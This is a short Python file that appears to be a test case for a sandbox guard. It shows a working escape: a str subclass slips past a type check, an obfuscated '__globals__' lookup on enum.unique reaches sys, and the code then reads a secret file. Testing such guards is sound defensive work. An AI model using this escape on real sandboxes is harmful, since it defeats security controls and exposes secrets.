# attack: getattr with a name whose type is no str but a class of the script's: the guard asks only about true strings
# family: attribute
import enum
class Name(str):
    pass
space = getattr(enum.unique, Name("__glo" + "bals__"))
print("REACHED", space["sys"])
print(space["sys"].modules["io"].open("$SECRET_FILE").read())
